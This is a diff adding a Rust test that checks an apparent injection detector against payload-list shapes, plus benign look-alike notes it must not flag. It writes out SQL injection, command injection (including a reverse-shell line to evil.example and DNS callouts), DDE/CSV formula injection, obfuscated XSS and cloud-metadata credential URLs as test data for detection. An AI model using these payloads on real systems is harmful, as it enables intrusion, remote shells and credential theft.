@@ -1127,3 +1127,93 @@ fn quote_and_parenthesis_probe() {
         Context::Auto,
     );
 }
+
+/// Shapes of the payload lists of fray and commonhuman-payloads (PyPI) and of brs-kb's XSS
+/// knowledge base that the check missed (session 13), with the notes they must not catch.
+#[test]
+fn payload_list_shapes() {
+    assert_attacks(
+        &[
+            "' AND 0 order by 1-- -",
+            " ORDER BY 3-- -",
+            "#\norder#\nby#\n2-- -",
+            "' Union Distinctrow Select 'x',NULL,NULL-- -",
+            "1'\u{a0}OR\u{a0}1=1--",
+            "x'\u{a0}union\u{a0}select\u{a0}password\u{a0}from\u{a0}users--",
+        ],
+        Class::Sqli,
+    );
+    assert_attacks(
+        &[
+            "; id # CVE-2026-2999",
+            "1;id #x",
+            "; java -jar reverse.jar evil.example 4444",
+            ";node -e \"require('child_process')\"",
+            ";ip addr",
+            ";ss -tulpn",
+            "; waitfor /t 5 pause",
+            ";{id,}",
+            ";{cat,/etc/hostname}",
+            ";$'\\x69\\x64'",
+            ";$'\\151\\144'",
+            ";dig evil.example",
+            "| host x.attacker.example",
+            "=cmd|'/C calc'!A0",
+            "@SUM(1+1)*cmd|'/C calc'!A0",
+            "<w:fldSimple w:instr=\"DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe /k calc.exe\">",
+            "@{System.Diagnostics.Process.Start(\"cmd\", \"/c id\");}",
+        ],
+        Class::Cmdi,
+    );
+    assert_attacks(
+        &[
+            "setTimeout(alert,0,'x')",
+            "Reflect.apply(alert,null,[1])",
+            "new SharedWorker('//evil.example/w.js')",
+            "Function('return this')()",
+            "new Function('alert(1)') ()",
+            "alert(1*1)",
+            "alert(!0)",
+            "alert(0x1)",
+            "alert(...[1])",
+            "[,alert][1](1)",
+            "+{valueOf:alert}",
+            "Object.defineProperty(window,'x',{get:alert})",
+            "alert.bind(null,1)()",
+            "[1].reduce((a,b)=>alert(b))",
+            "ExternalInterface.call(\"alert\", 1)",
+            "data:text/plain;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+            "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
+        ],
+        Class::Xss,
+    );
+    assert_attacks(
+        &[
+            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
+            "http://metadata.google.internal/computeMetadata/v1/",
+            "http://[fd00:ec2::254]/latest/meta-data/",
+            "/run/secrets/kubernetes.io/serviceaccount/token",
+        ],
+        Class::Traversal,
+    );
+    assert_benign(
+        &[
+            "order by 3 -- urgent, before the close",
+            "{action: alert}",
+            "[email, alert]",
+            "notify: [sms, alert]",
+            "we need ip address of the gateway",
+            "login & ip route table",
+            "Login User Details & IP Address",
+            "set stop; java 17 upgrade scheduled",
+            "node 5 restarted; ss 40 lots",
+            "A better `node -p`.",
+            "Note; id #12 closed",
+            "id # 5521",
+            "host example.com down; dig deeper tomorrow",
+            "Total = cmd|balance",
+            "169.254.169.254 is link-local",
+        ],
+        Context::Auto,
+    );
+}
